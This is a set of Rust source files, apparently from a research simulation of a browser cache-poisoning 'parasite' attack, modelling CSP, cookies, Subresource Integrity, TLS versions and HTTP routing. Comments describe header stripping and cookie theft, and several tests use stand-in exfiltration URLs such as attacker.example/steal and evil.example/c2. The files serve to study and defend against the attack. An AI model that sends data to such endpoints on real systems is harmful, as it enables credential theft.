    /// Enforcement check: may a document at `document` load/connect to
    /// `target` under `directive`?
    ///
    /// Absent policy or absent directive (and no `default-src`) means allow —
    /// which is exactly why the parasite strips the header from infected
    /// responses.
    pub fn allows(&self, directive: Directive, document: &Url, target: &Url) -> bool {
        match self.sources_for(directive) {
            None => true,
            Some(sources) => sources.iter().any(|s| s.matches(document, target)),
        }
    }

    /// Returns `true` if the directive's source list contains a bare wildcard
    /// (the `connect-src *` misconfiguration from Figure 5).
    pub fn has_wildcard(&self, directive: Directive) -> bool {
        self.sources_for(directive)
            .map(|sources| sources.contains(&Source::Wildcard))
            .unwrap_or(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn parse_and_lookup_directives() {
        let csp = ContentSecurityPolicy::parse(
            CspVersion::Standard,
            "default-src 'self'; img-src *; connect-src 'self' https://api.example.com",
        );
        assert!(csp.defines(Directive::ImgSrc));
        assert!(!csp.defines(Directive::FrameSrc));
        assert!(csp.has_wildcard(Directive::ImgSrc));
        assert!(!csp.has_wildcard(Directive::ConnectSrc));
        assert!(!csp.is_empty());
    }

    #[test]
    fn missing_policy_allows_everything() {
        let headers = HeaderMap::new();
        assert!(ContentSecurityPolicy::from_headers(&headers).is_none());
    }

    #[test]
    fn deprecated_header_names_are_detected() {
        let mut headers = HeaderMap::new();
        headers.set(names::X_WEBKIT_CSP, "default-src 'self'");
        let csp = ContentSecurityPolicy::from_headers(&headers).unwrap();
        assert_eq!(csp.version, CspVersion::XWebkitCsp);
        assert!(csp.version.is_deprecated());
        assert!(!CspVersion::Standard.is_deprecated());
    }

    #[test]
    fn self_source_restricts_to_same_origin() {
        let csp = ContentSecurityPolicy::parse(CspVersion::Standard, "connect-src 'self'");
        let doc = url("https://bank.example/account");
        assert!(csp.allows(Directive::ConnectSrc, &doc, &url("https://bank.example/api")));
        assert!(!csp.allows(Directive::ConnectSrc, &doc, &url("https://evil.example/c2")));
    }

    #[test]
    fn wildcard_connect_src_lets_exfiltration_through() {
        let csp = ContentSecurityPolicy::parse(CspVersion::Standard, "connect-src *");
        let doc = url("https://bank.example/");
        assert!(csp.allows(Directive::ConnectSrc, &doc, &url("http://attacker.example/steal")));
        assert!(csp.has_wildcard(Directive::ConnectSrc));
    }

    #[test]
    fn default_src_is_the_fallback() {
        let csp = ContentSecurityPolicy::parse(CspVersion::Standard, "default-src 'none'; img-src 'self'");
        let doc = url("https://shop.example/");
        // img-src explicitly allows self.
        assert!(csp.allows(Directive::ImgSrc, &doc, &url("https://shop.example/pixel.svg")));
        // frame-src falls back to default-src 'none'.
        assert!(!csp.allows(Directive::FrameSrc, &doc, &url("https://bank.example/")));
        // Absent directive with no default-src: allowed.
        let loose = ContentSecurityPolicy::parse(CspVersion::Standard, "img-src 'self'");
        assert!(loose.allows(Directive::FrameSrc, &doc, &url("https://bank.example/")));
    }

    #[test]
    fn host_patterns_match_subdomains_and_schemes() {
        let csp = ContentSecurityPolicy::parse(
            CspVersion::Standard,
            "script-src *.cdn.example https://static.shop.example",
        );
        let doc = url("https://shop.example/");
        assert!(csp.allows(Directive::ScriptSrc, &doc, &url("https://a.cdn.example/lib.js")));
        assert!(!csp.allows(Directive::ScriptSrc, &doc, &url("https://cdn.example/lib.js")), "bare domain does not match *. pattern");
        assert!(csp.allows(Directive::ScriptSrc, &doc, &url("https://static.shop.example/app.js")));
        assert!(!csp.allows(Directive::ScriptSrc, &doc, &url("http://static.shop.example/app.js")), "scheme-qualified source requires matching scheme");
        assert!(!csp.allows(Directive::ScriptSrc, &doc, &url("https://evil.example/x.js")));
    }

    #[test]
    fn empty_policy_counts_as_supplied_without_rules() {
        let csp = ContentSecurityPolicy::parse(CspVersion::Standard, "upgrade-insecure-requests");
        assert!(csp.is_empty());
    }
}
