//! Cookies and the cookie jar.
//!
//! Cookies matter to the reproduction for two reasons: the parasite's
//! credential-theft modules read them through the browser API (Table V,
//! "Browser Data"), and Table III shows that clearing *cookies/site data* is
//! the only refresh method that also removes Cache-API-stored parasites — so
//! the browser model ties Cache API lifetime to cookie clearing.

use crate::url::Url;
use serde::{Deserialize, Serialize};
use std::fmt;

/// A single cookie.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Cookie {
    /// Cookie name.
    pub name: String,
    /// Cookie value.
    pub value: String,
    /// Domain the cookie is scoped to.
    pub domain: String,
    /// Path prefix the cookie is scoped to.
    pub path: String,
    /// Absolute expiry in simulation seconds (`None` = session cookie).
    pub expires_at: Option<u64>,
    /// Only sent over HTTPS.
    pub secure: bool,
    /// Not visible to scripts.
    pub http_only: bool,
}

impl Cookie {
    /// Creates a session cookie scoped to `domain`.
    pub fn session(name: impl Into<String>, value: impl Into<String>, domain: impl Into<String>) -> Self {
        Cookie {
            name: name.into(),
            value: value.into(),
            domain: domain.into().to_ascii_lowercase(),
            path: "/".into(),
            expires_at: None,
            secure: false,
            http_only: false,
        }
    }

    /// Parses a `Set-Cookie` header value for a response from `url`.
    ///
    /// Returns `None` for values without a `name=value` pair.
    pub fn parse_set_cookie(value: &str, url: &Url) -> Option<Cookie> {
        let mut parts = value.split(';');
        let (name, val) = parts.next()?.split_once('=')?;
        let mut cookie = Cookie::session(name.trim(), val.trim(), url.host.clone());
        for attr in parts {
            let attr = attr.trim();
            let (key, arg) = match attr.split_once('=') {
                Some((k, a)) => (k.trim().to_ascii_lowercase(), a.trim()),
                None => (attr.to_ascii_lowercase(), ""),
            };
            match key.as_str() {
                "domain" => cookie.domain = arg.trim_start_matches('.').to_ascii_lowercase(),
                "path" => cookie.path = arg.to_string(),
                "max-age" => {
                    // Interpreted relative to time zero by the caller via
                    // `CookieJar::set_from_header`, which knows `now`.
                    cookie.expires_at = arg.parse::<u64>().ok();
                }
                "expires" => {
                    // Modelled as an absolute simulation-second count.
                    cookie.expires_at = arg.parse::<u64>().ok();
                }
                "secure" => cookie.secure = true,
                "httponly" => cookie.http_only = true,
                _ => {}
            }
        }
        Some(cookie)
    }

    /// Returns `true` if the cookie applies to requests for `url`.
    pub fn matches(&self, url: &Url) -> bool {
        let host_match = url.host == self.domain || url.host.ends_with(&format!(".{}", self.domain));
        let path_match = url.path.starts_with(&self.path);
        let scheme_ok = !self.secure || url.scheme == crate::url::Scheme::Https;
        host_match && path_match && scheme_ok
    }

    /// Returns `true` if the cookie has expired at `now`.
    pub fn is_expired(&self, now: u64) -> bool {
        matches!(self.expires_at, Some(at) if at <= now)
    }
}

impl fmt::Display for Cookie {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}={}", self.name, self.value)
    }
}

/// A per-browser cookie store.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CookieJar {
    cookies: Vec<Cookie>,
}

impl CookieJar {
    /// Creates an empty jar.
    pub fn new() -> Self {
        Self::default()
    }

    /// Stores a cookie, replacing any existing cookie with the same
    /// (name, domain, path).
    pub fn set(&mut self, cookie: Cookie) {
        self.cookies
            .retain(|c| !(c.name == cookie.name && c.domain == cookie.domain && c.path == cookie.path));
        self.cookies.push(cookie);
    }

    /// Parses and stores a `Set-Cookie` header received from `url` at `now`.
    /// A relative `Max-Age` is converted to an absolute expiry.
    pub fn set_from_header(&mut self, header_value: &str, url: &Url, now: u64) {
        if let Some(mut cookie) = Cookie::parse_set_cookie(header_value, url) {
            if header_value.to_ascii_lowercase().contains("max-age=") {
                cookie.expires_at = cookie.expires_at.map(|rel| now + rel);
            }
            self.set(cookie);
        }
    }

    /// Returns the `Cookie` header value for a request to `url`, or `None` if
    /// no cookies apply.
    pub fn header_for(&self, url: &Url, now: u64) -> Option<String> {
        let mut applicable: Vec<&Cookie> = self
            .cookies
            .iter()
            .filter(|c| c.matches(url) && !c.is_expired(now))
            .collect();
        if applicable.is_empty() {
            return None;
        }
        applicable.sort_by(|a, b| b.path.len().cmp(&a.path.len()).then(a.name.cmp(&b.name)));
        Some(
            applicable
                .iter()
                .map(|c| c.to_string())
                .collect::<Vec<_>>()
                .join("; "),
        )
    }

    /// Cookies visible to a script running on `url`'s origin (`document.cookie`):
    /// everything applicable except `HttpOnly` cookies.
    pub fn script_visible(&self, url: &Url, now: u64) -> Vec<&Cookie> {
        self.cookies
            .iter()
            .filter(|c| c.matches(url) && !c.is_expired(now) && !c.http_only)
            .collect()
    }

    /// Total number of cookies stored.
    pub fn len(&self) -> usize {
        self.cookies.len()
    }

    /// Returns `true` if the jar is empty.
    pub fn is_empty(&self) -> bool {
        self.cookies.is_empty()
    }

    /// Removes every cookie (the "clear cookies / site data" browser action of
    /// Table III).
    pub fn clear(&mut self) {
        self.cookies.clear();
    }

    /// Removes cookies for one domain only.
    pub fn clear_domain(&mut self, domain: &str) {
        let domain = domain.to_ascii_lowercase();
        self.cookies.retain(|c| c.domain != domain);
    }

    /// Drops expired cookies.
    pub fn evict_expired(&mut self, now: u64) {
        self.cookies.retain(|c| !c.is_expired(now));
    }

    /// Iterates over all cookies.
    pub fn iter(&self) -> impl Iterator<Item = &Cookie> {
        self.cookies.iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::url::Scheme;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn parse_set_cookie_with_attributes() {
        let u = url("https://mail.example/inbox");
        let cookie = Cookie::parse_set_cookie("SID=abc123; Path=/; Secure; HttpOnly; Max-Age=3600", &u).unwrap();
        assert_eq!(cookie.name, "SID");
        assert_eq!(cookie.value, "abc123");
        assert_eq!(cookie.domain, "mail.example");
        assert!(cookie.secure && cookie.http_only);
        assert_eq!(cookie.expires_at, Some(3600));
        assert!(Cookie::parse_set_cookie("garbage-without-equals", &u).is_none());
    }

    #[test]
    fn jar_returns_matching_cookies_only() {
        let mut jar = CookieJar::new();
        let bank = url("https://bank.example/");
        let mail = url("https://mail.example/");
        jar.set_from_header("auth=tok1; Path=/", &bank, 0);
        jar.set_from_header("session=tok2; Path=/", &mail, 0);
        assert_eq!(jar.header_for(&bank, 10), Some("auth=tok1".to_string()));
        assert_eq!(jar.header_for(&mail, 10), Some("session=tok2".to_string()));
        assert_eq!(jar.len(), 2);
    }

    #[test]
    fn secure_cookies_are_not_sent_over_http() {
        let mut jar = CookieJar::new();
        let https = url("https://bank.example/");
        jar.set_from_header("auth=tok; Secure", &https, 0);
        let http = Url { scheme: Scheme::Http, port: 80, ..https.clone() };
        assert_eq!(jar.header_for(&https, 0), Some("auth=tok".into()));
        assert_eq!(jar.header_for(&http, 0), None);
    }

    #[test]
    fn max_age_expiry_is_relative_to_set_time() {
        let mut jar = CookieJar::new();
        let u = url("http://shop.example/");
        jar.set_from_header("cart=1; Max-Age=100", &u, 1000);
        assert!(jar.header_for(&u, 1050).is_some());
        assert!(jar.header_for(&u, 1101).is_none());
        jar.evict_expired(1101);
        assert!(jar.is_empty());
    }

    #[test]
    fn http_only_cookies_hidden_from_scripts_but_sent_on_requests() {
        let mut jar = CookieJar::new();
        let u = url("https://social.example/");
        jar.set_from_header("sid=secret; HttpOnly", &u, 0);
        jar.set_from_header("theme=dark", &u, 0);
        let visible = jar.script_visible(&u, 0);
        assert_eq!(visible.len(), 1);
        assert_eq!(visible[0].name, "theme");
        assert!(jar.header_for(&u, 0).unwrap().contains("sid=secret"));
    }

    #[test]
    fn subdomain_cookies_match_parent_domain_scope() {
        let mut jar = CookieJar::new();
        let u = url("https://www.example.com/");
        jar.set_from_header("pref=1; Domain=example.com", &u, 0);
        assert!(jar.header_for(&url("https://shop.example.com/x"), 0).is_some());
        assert!(jar.header_for(&url("https://other.org/"), 0).is_none());
    }

    #[test]
    fn clearing_cookies_removes_everything() {
        let mut jar = CookieJar::new();
        let u = url("https://a.example/");
        jar.set_from_header("x=1", &u, 0);
        jar.set_from_header("y=2", &u, 0);
        jar.clear();
        assert!(jar.is_empty());
    }

    #[test]
    fn same_name_domain_path_replaces() {
        let mut jar = CookieJar::new();
        let u = url("https://a.example/");
        jar.set_from_header("x=1", &u, 0);
        jar.set_from_header("x=2", &u, 0);
        assert_eq!(jar.len(), 1);
        assert_eq!(jar.header_for(&u, 0), Some("x=2".into()));
    }
}
