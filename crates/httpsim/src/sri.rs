//! Subresource Integrity (SRI).
//!
//! SRI lets a page pin the expected digest of a subresource
//! (`<script integrity="sha256-...">`). The paper recommends it as a
//! countermeasure (§VIII) while noting that it does not help during the
//! *active* injection phase, because the attacker who forges the response
//! also controls the embedding document and can simply omit or rewrite the
//! attribute. The model captures both facts.

use crate::body::{fnv1a, Body};
use serde::{Deserialize, Serialize};
use std::fmt;

/// An integrity metadata value as it would appear in an `integrity` attribute.
///
/// Real SRI uses SHA-256/384/512; the simulation uses a 64-bit FNV digest,
/// which preserves the property that matters (any byte change is detected with
/// overwhelming probability) without pulling in a crypto dependency.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct IntegrityDigest(u64);

impl IntegrityDigest {
    /// Computes the digest of a body.
    pub fn of(body: &Body) -> Self {
        IntegrityDigest(fnv1a(&body.bytes))
    }

    /// Computes the digest of raw bytes.
    pub fn of_bytes(bytes: &[u8]) -> Self {
        IntegrityDigest(fnv1a(bytes))
    }

    /// Parses an `integrity` attribute value of the form `sim-<hex>`.
    pub fn parse(value: &str) -> Option<Self> {
        let hex = value.trim().strip_prefix("sim-")?;
        u64::from_str_radix(hex, 16).ok().map(IntegrityDigest)
    }

    /// Checks a fetched body against this digest.
    pub fn verify(&self, body: &Body) -> bool {
        Self::of(body) == *self
    }
}

impl fmt::Display for IntegrityDigest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sim-{:016x}", self.0)
    }
}

/// Outcome of an SRI check during subresource loading.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SriOutcome {
    /// No integrity metadata was present — the load proceeds unchecked.
    NotRequested,
    /// Metadata present and the body matched.
    Verified,
    /// Metadata present and the body did **not** match — the browser blocks
    /// the resource, which stops a *cached* parasite from being re-used by a
    /// cleanly delivered page.
    Blocked,
}

/// Performs the SRI check a browser applies when a document references a
/// subresource with optional integrity metadata.
pub fn check(integrity: Option<&IntegrityDigest>, body: &Body) -> SriOutcome {
    match integrity {
        None => SriOutcome::NotRequested,
        Some(digest) if digest.verify(body) => SriOutcome::Verified,
        Some(_) => SriOutcome::Blocked,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::body::ResourceKind;

    #[test]
    fn digest_round_trips_through_attribute_syntax() {
        let body = Body::text(ResourceKind::JavaScript, "function init(){}");
        let digest = IntegrityDigest::of(&body);
        let attr = digest.to_string();
        assert!(attr.starts_with("sim-"));
        assert_eq!(IntegrityDigest::parse(&attr), Some(digest));
        assert_eq!(IntegrityDigest::parse("sha256-notourformat"), None);
    }

    #[test]
    fn tampered_body_is_blocked() {
        let clean = Body::text(ResourceKind::JavaScript, "function init(){}");
        let digest = IntegrityDigest::of(&clean);
        let infected = Body::text(ResourceKind::JavaScript, "function init(){};PARASITE_CODE;");
        assert_eq!(check(Some(&digest), &clean), SriOutcome::Verified);
        assert_eq!(check(Some(&digest), &infected), SriOutcome::Blocked);
    }

    #[test]
    fn absent_integrity_is_not_checked() {
        let infected = Body::text(ResourceKind::JavaScript, "PARASITE_CODE;");
        assert_eq!(check(None, &infected), SriOutcome::NotRequested);
    }

    #[test]
    fn digest_of_bytes_matches_digest_of_body() {
        let text = "var a = 42;";
        let body = Body::text(ResourceKind::JavaScript, text);
        assert_eq!(IntegrityDigest::of(&body), IntegrityDigest::of_bytes(text.as_bytes()));
    }
}
