//! Error type for HTTP parsing and processing.

use std::fmt;

/// Errors produced while parsing or processing HTTP artefacts.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum HttpError {
    /// A URL could not be parsed.
    InvalidUrl {
        /// The offending input.
        input: String,
        /// What was wrong with it.
        reason: String,
    },
    /// An HTTP message could not be parsed from its wire form.
    MalformedMessage {
        /// What was wrong.
        reason: String,
    },
    /// A header value was syntactically invalid for its header.
    InvalidHeaderValue {
        /// Header name.
        name: String,
        /// Offending value.
        value: String,
    },
    /// A request targeted a scheme the peer does not serve.
    UnsupportedScheme(String),
}

impl fmt::Display for HttpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HttpError::InvalidUrl { input, reason } => {
                write!(f, "invalid url {input:?}: {reason}")
            }
            HttpError::MalformedMessage { reason } => write!(f, "malformed http message: {reason}"),
            HttpError::InvalidHeaderValue { name, value } => {
                write!(f, "invalid value for header {name}: {value:?}")
            }
            HttpError::UnsupportedScheme(scheme) => write!(f, "unsupported scheme: {scheme}"),
        }
    }
}

impl std::error::Error for HttpError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_informative() {
        let err = HttpError::InvalidUrl {
            input: "ht!tp://".into(),
            reason: "bad scheme".into(),
        };
        assert!(err.to_string().contains("bad scheme"));
        let err = HttpError::MalformedMessage {
            reason: "missing request line".into(),
        };
        assert!(err.to_string().contains("missing request line"));
    }

    #[test]
    fn error_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<HttpError>();
    }
}
