//! TLS/SSL deployment model.
//!
//! The paper's measurement (§V, Discussion) found that 21 % of the 100K-top
//! Alexa sites served plain HTTP and almost 7 % still offered SSL 2.0/3.0,
//! and notes that even HTTPS sites can be attacked when the attacker holds a
//! fraudulently issued certificate. This module models exactly those axes:
//! protocol version, certificate authenticity, and whether the combination
//! leaves the transport injectable by the eavesdropping master.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Protocol version offered by a site.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum TlsVersion {
    /// Plain HTTP, no TLS at all.
    None,
    /// SSL 2.0 — broken.
    Ssl2,
    /// SSL 3.0 — broken.
    Ssl3,
    /// TLS 1.0 — legacy but not trivially injectable.
    Tls10,
    /// TLS 1.1.
    Tls11,
    /// TLS 1.2.
    Tls12,
    /// TLS 1.3.
    Tls13,
}

impl TlsVersion {
    /// Returns `true` if the version provides no effective transport
    /// confidentiality/integrity against an active network attacker
    /// (plain HTTP or a broken SSL version).
    pub fn is_vulnerable(self) -> bool {
        matches!(self, TlsVersion::None | TlsVersion::Ssl2 | TlsVersion::Ssl3)
    }

    /// Returns `true` if the site offers any TLS/SSL at all.
    pub fn offers_encryption(self) -> bool {
        self != TlsVersion::None
    }
}

impl fmt::Display for TlsVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            TlsVersion::None => "none",
            TlsVersion::Ssl2 => "SSLv2",
            TlsVersion::Ssl3 => "SSLv3",
            TlsVersion::Tls10 => "TLSv1.0",
            TlsVersion::Tls11 => "TLSv1.1",
            TlsVersion::Tls12 => "TLSv1.2",
            TlsVersion::Tls13 => "TLSv1.3",
        };
        f.write_str(name)
    }
}

/// Certificate state for a domain, from the point of view of a client that
/// trusts the public CA ecosystem.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum CertificateState {
    /// Valid certificate held only by the legitimate operator.
    Valid,
    /// No certificate (HTTP-only site).
    Absent,
    /// A fraudulent certificate for the domain has been issued to the
    /// attacker (e.g. via the off-path domain-validation attacks the paper
    /// cites), so the attacker can impersonate the site over HTTPS too.
    FraudulentlyIssued,
    /// Certificate errors the user has been conditioned to click through.
    InvalidButIgnoredByUser,
}

/// TLS deployment of one site.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct TlsDeployment {
    /// Best protocol version the site offers.
    pub version: TlsVersion,
    /// Certificate situation.
    pub certificate: CertificateState,
}

impl TlsDeployment {
    /// A plain-HTTP site.
    pub fn plaintext() -> Self {
        TlsDeployment {
            version: TlsVersion::None,
            certificate: CertificateState::Absent,
        }
    }

    /// A modern, correctly configured HTTPS site.
    pub fn modern() -> Self {
        TlsDeployment {
            version: TlsVersion::Tls13,
            certificate: CertificateState::Valid,
        }
    }

    /// A site still offering a broken SSL version.
    pub fn legacy_ssl(version: TlsVersion) -> Self {
        TlsDeployment {
            version,
            certificate: CertificateState::Valid,
        }
    }

    /// Returns `true` if an eavesdropping attacker can inject spoofed
    /// application data into connections to this site, given the deployment
    /// alone (HSTS/stripping is evaluated separately in [`crate::hsts`]).
    pub fn injectable(&self) -> bool {
        if self.version.is_vulnerable() {
            return true;
        }
        matches!(
            self.certificate,
            CertificateState::FraudulentlyIssued | CertificateState::InvalidButIgnoredByUser
        )
    }
}

impl Default for TlsDeployment {
    fn default() -> Self {
        Self::modern()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerable_versions() {
        assert!(TlsVersion::None.is_vulnerable());
        assert!(TlsVersion::Ssl2.is_vulnerable());
        assert!(TlsVersion::Ssl3.is_vulnerable());
        assert!(!TlsVersion::Tls12.is_vulnerable());
        assert!(!TlsVersion::Tls13.is_vulnerable());
        assert!(!TlsVersion::None.offers_encryption());
        assert!(TlsVersion::Ssl2.offers_encryption());
    }

    #[test]
    fn plaintext_and_legacy_deployments_are_injectable() {
        assert!(TlsDeployment::plaintext().injectable());
        assert!(TlsDeployment::legacy_ssl(TlsVersion::Ssl3).injectable());
        assert!(!TlsDeployment::modern().injectable());
    }

    #[test]
    fn fraudulent_certificate_defeats_modern_tls() {
        let deployment = TlsDeployment {
            version: TlsVersion::Tls13,
            certificate: CertificateState::FraudulentlyIssued,
        };
        assert!(deployment.injectable());
        let ignored = TlsDeployment {
            version: TlsVersion::Tls12,
            certificate: CertificateState::InvalidButIgnoredByUser,
        };
        assert!(ignored.injectable());
    }

    #[test]
    fn version_ordering_allows_min_version_policies() {
        assert!(TlsVersion::Tls12 > TlsVersion::Ssl3);
        assert!(TlsVersion::None < TlsVersion::Ssl2);
    }
}
