//! HTTP exchange abstraction.
//!
//! Everything in the reproduction that answers HTTP requests — origin web
//! servers, the victim applications, network caches sitting on the path, and
//! the master's injection layer — implements [`Exchange`]. Browsers talk to a
//! boxed `Exchange`, so the same browser code runs against a clean origin, an
//! origin behind a poisoned proxy, or an origin reached across the simulated
//! WiFi with the attacker racing responses.

use crate::body::{Body, ResourceKind};
use crate::message::{Request, Response};
use crate::url::Url;
use std::collections::BTreeMap;

/// Something that can answer HTTP requests.
pub trait Exchange: Send {
    /// Performs one request/response exchange.
    fn exchange(&mut self, request: &Request) -> Response;

    /// Human-readable name for traces and experiment reports.
    fn name(&self) -> &str {
        "exchange"
    }
}

impl<T: Exchange + ?Sized> Exchange for Box<T> {
    fn exchange(&mut self, request: &Request) -> Response {
        (**self).exchange(request)
    }
    fn name(&self) -> &str {
        (**self).name()
    }
}

/// A static origin server: a host name plus a map from path to response.
#[derive(Debug, Clone, Default)]
pub struct StaticOrigin {
    host: String,
    objects: BTreeMap<String, Response>,
}

impl StaticOrigin {
    /// Creates an empty origin for `host`.
    pub fn new(host: impl Into<String>) -> Self {
        StaticOrigin {
            host: host.into().to_ascii_lowercase(),
            objects: BTreeMap::new(),
        }
    }

    /// The host this origin serves.
    pub fn host(&self) -> &str {
        &self.host
    }

    /// Adds (or replaces) an object at `path`.
    pub fn put(&mut self, path: impl Into<String>, response: Response) -> &mut Self {
        self.objects.insert(normalise_path(path.into()), response);
        self
    }

    /// Convenience: adds a text object of the given kind with a cache policy.
    pub fn put_text(
        &mut self,
        path: &str,
        kind: ResourceKind,
        content: &str,
        cache_control: &str,
    ) -> &mut Self {
        let response = Response::ok(Body::text(kind, content)).with_cache_control(cache_control);
        self.put(path, response)
    }

    /// Returns the stored object for `path`, if any.
    pub fn get(&self, path: &str) -> Option<&Response> {
        self.objects.get(&normalise_path(path.to_string()))
    }

    /// Returns a mutable reference to the stored object for `path`, if any.
    pub fn get_mut(&mut self, path: &str) -> Option<&mut Response> {
        self.objects.get_mut(&normalise_path(path.to_string()))
    }

    /// Lists all object paths on this origin.
    pub fn paths(&self) -> Vec<String> {
        self.objects.keys().cloned().collect()
    }
}

fn normalise_path(mut path: String) -> String {
    if !path.starts_with('/') {
        path.insert(0, '/');
    }
    path
}

impl Exchange for StaticOrigin {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        // Query strings address the same underlying object: the paper's
        // cache-busting reload (`my.js?t=500198`) must reach the genuine file.
        match self.objects.get(&request.url.path) {
            Some(response) => {
                let policy = crate::caching::CachePolicy::private_cache();
                if request.is_conditional() && policy.validators_match(request, response) {
                    Response::not_modified()
                } else {
                    response.clone()
                }
            }
            None => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        &self.host
    }
}

/// Routes requests to per-host origins: a miniature Internet.
#[derive(Default)]
pub struct Internet {
    origins: BTreeMap<String, Box<dyn Exchange>>,
}

impl std::fmt::Debug for Internet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Internet")
            .field("hosts", &self.origins.keys().collect::<Vec<_>>())
            .finish()
    }
}

impl Internet {
    /// Creates an empty Internet.
    pub fn new() -> Self {
        Self::default()
    }

    /// Registers an exchange to answer for `host`.
    pub fn register(&mut self, host: impl Into<String>, exchange: Box<dyn Exchange>) {
        self.origins.insert(host.into().to_ascii_lowercase(), exchange);
    }

    /// Registers a static origin under its own host name.
    pub fn register_origin(&mut self, origin: StaticOrigin) {
        let host = origin.host().to_string();
        self.origins.insert(host, Box::new(origin));
    }

    /// Returns `true` if a handler exists for `host`.
    pub fn knows(&self, host: &str) -> bool {
        self.origins.contains_key(&host.to_ascii_lowercase())
    }

    /// Lists registered hosts.
    pub fn hosts(&self) -> Vec<String> {
        self.origins.keys().cloned().collect()
    }
}

impl Exchange for Internet {
    fn exchange(&mut self, request: &Request) -> Response {
        match self.origins.get_mut(&request.url.host) {
            Some(exchange) => exchange.exchange(request),
            None => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        "internet"
    }
}

/// Builds a GET request for a URL string (test/helper convenience).
///
/// # Panics
///
/// Panics if the URL does not parse; intended for statically known URLs in
/// examples and tests.
pub fn get(url: &str) -> Request {
    Request::get(Url::parse(url).expect("valid url literal"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::StatusCode;

    #[test]
    fn static_origin_serves_and_404s() {
        let mut origin = StaticOrigin::new("somesite.com");
        origin.put_text("/my.js", ResourceKind::JavaScript, "function f(){}", "max-age=86400");
        let ok = origin.exchange(&get("http://somesite.com/my.js"));
        assert_eq!(ok.status, StatusCode::OK);
        assert_eq!(ok.body.as_text(), "function f(){}");
        let missing = origin.exchange(&get("http://somesite.com/nope.js"));
        assert_eq!(missing.status, StatusCode::NOT_FOUND);
        let wrong_host = origin.exchange(&get("http://other.com/my.js"));
        assert_eq!(wrong_host.status, StatusCode::NOT_FOUND);
    }

    #[test]
    fn query_string_reaches_the_same_object() {
        let mut origin = StaticOrigin::new("somesite.com");
        origin.put_text("/my.js", ResourceKind::JavaScript, "original()", "max-age=60");
        let busted = origin.exchange(&get("http://somesite.com/my.js?t=500198"));
        assert_eq!(busted.body.as_text(), "original()");
    }

    #[test]
    fn conditional_request_with_matching_etag_gets_304() {
        let mut origin = StaticOrigin::new("top1.com");
        let response = Response::ok(Body::text(ResourceKind::JavaScript, "persistent"))
            .with_cache_control("max-age=60")
            .with_etag("\"v1\"");
        origin.put("/persistent.js", response);
        let request = get("http://top1.com/persistent.js").with_etag_validator("\"v1\"");
        assert_eq!(origin.exchange(&request).status, StatusCode::NOT_MODIFIED);
        let request = get("http://top1.com/persistent.js").with_etag_validator("\"v0\"");
        assert_eq!(origin.exchange(&request).status, StatusCode::OK);
    }

    #[test]
    fn internet_routes_by_host() {
        let mut net = Internet::new();
        let mut a = StaticOrigin::new("a.example");
        a.put_text("/x.js", ResourceKind::JavaScript, "a", "max-age=1");
        let mut b = StaticOrigin::new("b.example");
        b.put_text("/x.js", ResourceKind::JavaScript, "b", "max-age=1");
        net.register_origin(a);
        net.register_origin(b);
        assert!(net.knows("a.example"));
        assert!(!net.knows("c.example"));
        assert_eq!(net.exchange(&get("http://a.example/x.js")).body.as_text(), "a");
        assert_eq!(net.exchange(&get("http://b.example/x.js")).body.as_text(), "b");
        assert_eq!(net.exchange(&get("http://c.example/x.js")).status, StatusCode::NOT_FOUND);
        assert_eq!(net.hosts().len(), 2);
    }
}
