//! Minimal JSON value model, serializer and parser.
//!
//! The workspace is built offline against a stub `serde` that carries no data
//! format, so machine-readable experiment output ([`crate::experiments::Artifact`])
//! is produced through this self-contained module instead: a [`Json`] value
//! tree, a compact writer (via [`std::fmt::Display`]), a recursive-descent
//! parser ([`Json::parse`]) and a [`ToJson`] conversion trait implemented by
//! every experiment result type.
//!
//! Object keys keep insertion order, so serialisation is deterministic and the
//! `paper-report --json` output is byte-for-byte reproducible.

use std::fmt;

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// A number (JSON has only one numeric type).
    Num(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object; insertion order is preserved.
    Obj(Vec<(String, Json)>),
}

impl Json {
    /// Builds an object from key/value pairs (order-preserving).
    pub fn obj(pairs: impl IntoIterator<Item = (&'static str, Json)>) -> Json {
        Json::Obj(pairs.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
    }

    /// Builds an array by converting each element.
    pub fn arr<T: ToJson>(items: impl IntoIterator<Item = T>) -> Json {
